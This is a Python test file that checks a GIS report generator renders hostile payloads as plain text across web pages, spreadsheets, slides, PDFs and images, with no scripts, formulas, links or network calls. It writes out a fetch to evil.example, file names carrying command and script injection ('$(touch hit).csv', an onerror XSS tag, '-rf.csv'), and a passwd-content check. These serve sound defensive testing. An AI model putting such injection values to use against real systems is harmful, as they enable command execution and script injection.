"""Hostile text in every slot of every output: shown as it is, it runs nowhere, breaks nothing."""

from __future__ import annotations

import io
import json
import re
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from typing import TYPE_CHECKING

import hostile_corpus
import openpyxl
import pypdf
import pytest
from browser import DESKTOP, PHONE
from hostile_corpus import PAYLOADS
from pptx import Presentation

from tambon_gis import catalog
from tambon_gis.publish.habits import bad_habits
from tambon_gis.render.book import plan_book, tables_book
from tambon_gis.render.deck import slides
from tambon_gis.render.gis import gis
from tambon_gis.render.image import cards, pictures
from tambon_gis.render.paper import paper, poster
from tambon_gis.render.web import pack_page, page
from tambon_gis.study.checklist import checklist

if TYPE_CHECKING:
    from pathlib import Path

#: Each turn moves every payload to other slots.
TURNS = (0, 23)


#: What is written on the page, and what is read aloud.
READ = """document.body.textContent +
    [...document.querySelectorAll("[aria-label]")].map(node => node.ariaLabel).join(" ")"""
ARABIC = str.maketrans("๐๑๒๓๔๕๖๗๘๙", "0123456789")


def seen(text: str) -> str:
    """A text as a reader may see it: without controls, marks of direction and runs of spaces."""
    kept = (c if unicodedata.category(c)[0] not in {"C", "Z"} else " " for c in text)
    return re.sub(r"\s+", "", "".join(kept)).translate(ARABIC)


def test_the_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
@pytest.mark.parametrize("turn", TURNS)
def test_a_page_shows_text_and_runs_nothing(visit, tmp_path, turn, size):
    made = hostile_corpus.content(turn)
    path = tmp_path / "index.html"
    path.write_text(page.draw(made), encoding="utf-8")
    opened = visit(path, size=size)
    view = opened.page
    view.wait_for_timeout(300)
    # every layer on, every view, a sheet, the presenter: all that shows text
    for box in view.query_selector_all("input[type=checkbox]"):
        box.evaluate("box => box.click()")
    view.evaluate("TambonPage.go({kept: 4})")
    view.evaluate("TambonPage.go({sheet: 4})")
    view.evaluate("TambonPage.go({arrange: 'multiples'})")
    view.evaluate("TambonPage.go({arrange: 'one', sheet: null})")
    view.wait_for_timeout(300)
    text = seen(view.evaluate(READ))
    assert [one for one in hostile_corpus.texts_of(made) if seen(one) not in text] == []
    assert view.evaluate("window.hit") is None
    assert view.query_selector("img, iframe, object, embed, base, a[href^='javascript']") is None
    assert view.evaluate("document.querySelectorAll('path.leaflet-interactive').length") >= 11
    assert view.evaluate("({}).hit === undefined && [].hit === undefined")
    assert (opened.requests, opened.complaints) == ([], [])


@pytest.mark.parametrize("turn", TURNS)
def test_the_pages_of_a_pack_show_text_and_run_nothing(visit, tmp_path, turn):
    made = hostile_corpus.content(turn)
    topics = catalog.topics("five-topics")
    files = pack_page.leaves({"index.html": 1, "5-presentation/slides.pptx": 2}, made)
    shelves = checklist(made, topics, [one.path for one in files])
    first = pack_page.draw(made, shelves, files, topics=topics)
    work = pack_page.process(made, topics=topics)
    assert work is not None
    said = [
        made.record.meetings[0].title,
        *made.record.meetings[0].decided,
        made.record.due[0].what,
    ]
    both = [*said, made.record.steps[0].note]
    bare = [made.plan.frame["title"][at] for at in (0, 2)]
    for name, text, shown in (("README.html", first, both + bare), ("process.html", work, both)):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        opened = visit(path)
        view = opened.page
        view.wait_for_timeout(200)
        read = seen(view.evaluate("document.body.textContent"))
        assert [one for one in shown if seen(one) not in read] == []
        assert view.evaluate("window.hit") is None
        assert view.query_selector("script, img, iframe, object, base, [onload], [onerror]") is None
        assert view.query_selector("a[href^='javascript'], a[href^='http']") is None
        assert (opened.requests, opened.complaints) == ([], [])
        # a text that reads like an address is told, more is not wrong with the page
        assert {kind for kind, *_ in bad_habits(name, text.encode())} <= {"remote"}


@pytest.mark.parametrize("turn", TURNS)
def test_the_plan_workbook_holds_texts_and_only_its_sums(turn):
    made = hostile_corpus.content(turn)
    (data,) = plan_book.plan_book(made).values()
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    sums = [str(cell.value) for cell in cells if cell.data_type == "f"]
    assert [
        one for one in sums if not re.fullmatch(r"=SU(?:BTOTAL\(9,|M\()[A-Z0-9:,]+\)", one)
    ] == []
    assert not [cell.coordinate for cell in cells if cell.hyperlink]
    texts = "\n".join(seen(str(cell.value)) for cell in cells if isinstance(cell.value, str))
    assert [one for one in made.plan.frame["title"] if seen(one) not in texts] == []


@pytest.mark.parametrize("turn", TURNS)
def test_the_poster_prints_what_stands_there(turn):
    (data,) = poster.poster(hostile_corpus.content(turn)).values()
    reader = pypdf.PdfReader(io.BytesIO(data))
    assert len(reader.pages) == 1
    assert "root:x:0" not in reader.pages[0].extract_text()
    assert not {"/OpenAction", "/AA"} & reader.trailer["/Root"].keys()
    assert not reader.attachments


def test_the_still_picture_without_scripts_is_plain(visit, tmp_path):
    path = tmp_path / "index.html"
    path.write_text(page.draw(hostile_corpus.content(5)), encoding="utf-8")
    opened = visit(path, scripts=False)
    assert opened.page.query_selector("noscript svg, .still svg") is not None
    assert (opened.requests, opened.complaints) == ([], [])


def test_the_page_stops_a_fetch_that_gets_in(visit, tmp_path):
    """The policy holds even against our own script: a fetch and a picture are refused."""
    path = tmp_path / "index.html"
    path.write_text(page.draw(hostile_corpus.content()), encoding="utf-8")
    opened = visit(path)
    fetched = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
    assert opened.page.evaluate(fetched) == "refused"
    assert any("Content Security Policy" in told for told in opened.complaints)


@pytest.mark.parametrize("turn", TURNS)
def test_a_workbook_holds_texts_and_no_formula(turn):
    made = hostile_corpus.content(turn)
    (data,) = tables_book.book(made).values()
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    texts = "\n".join(seen(str(cell.value)) for cell in cells if isinstance(cell.value, str))
    assert [one for one in made.places.frame["name"] if seen(one) not in texts] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name]


@pytest.mark.parametrize("turn", TURNS)
def test_slides_hold_texts_and_no_action(turn):
    made = hostile_corpus.content(turn)
    (data,) = slides.slides(made).values()
    Presentation(io.BytesIO(data))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name)
            if name.endswith((".xml", ".rels")):
                ET.fromstring(text)  # noqa: S314 - our own file
                assert b'TargetMode="External"' not in text
                assert b"hlinkClick" not in text
        embedded = [archive.read(n) for n in archive.namelist() if n.endswith(".xlsx")]
    for data in embedded:
        for sheet in openpyxl.load_workbook(io.BytesIO(data)):
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("turn", TURNS)
def test_paper_prints_what_stands_there(turn, tmp_path):
    made = hostile_corpus.content(turn)
    (data,) = paper.report(made).values()
    (tmp_path / "a.pdf").write_bytes(data)
    run = subprocess.run(
        ["pdftotext", "-raw", tmp_path / "a.pdf", "-"], capture_output=True, check=True
    )
    text = seen(run.stdout.decode("utf-8"))
    plain = [one for one in made.plan.frame["title"] if one.isascii() and len(one) > 3]
    assert [one for one in plain if seen(one) not in text] == []
    assert "root:x:0" not in text
    reader = pypdf.PdfReader(io.BytesIO(data))
    assert not {"/OpenAction", "/AA"} & reader.trailer["/Root"].keys()
    assert not reader.attachments
    links = [note.get_object() for one in reader.pages for note in one.get("/Annots", [])]
    acts = {str(link["/A"].get("/S")) for link in links if "/A" in link}
    assert acts <= {"/GoTo"}


def test_pictures_and_map_files_are_made_of_anything():
    made = hostile_corpus.content(3)
    for files in (pictures.pictures(made), cards.cards(made)):
        for name, data in files.items():
            assert re.fullmatch(r"[a-z0-9./_-]+", name)
            assert data[:8] == b"\x89PNG\r\n\x1a\n"
            assert MARK not in data
    (text,) = gis.geojson(made).values()
    assert len(json.loads(text)["features"]) >= 11
    (base,) = gis.geopackage(made).values()
    assert bytes(base)[:15] == b"SQLite format 3"


MARK = hostile_corpus.MARK.encode()


@pytest.mark.parametrize(
    "name",
    ["<img src=x onerror=window.hit=1>.csv", "$(touch hit).csv", "; touch hit;.csv",
     "'a' \"b\".csv", "=1+1.csv", "ก\u202eข.csv", "-rf.csv", "%s%n.csv"],
)  # fmt: skip
def test_a_hostile_file_name_reaches_no_output(small, tmp_path, name, monkeypatch):
    import shutil

    from tambon_gis.study import road

    home = shutil.copytree(small, tmp_path / "project")
    (home / "households.csv").rename(home / name)
    document = home / "tambon.toml"
    text = document.read_text("utf-8")
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    document.write_text(text.replace('"households.csv"', f'"{quoted}"'), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    built = road.build(home, out=tmp_path / "out")
    files: list[Path] = [path for path in built.page.parent.rglob("*") if path.is_file()]
    assert not [path.name for path in files if name in path.read_text("utf-8")]
    assert not list(tmp_path.rglob("hit"))
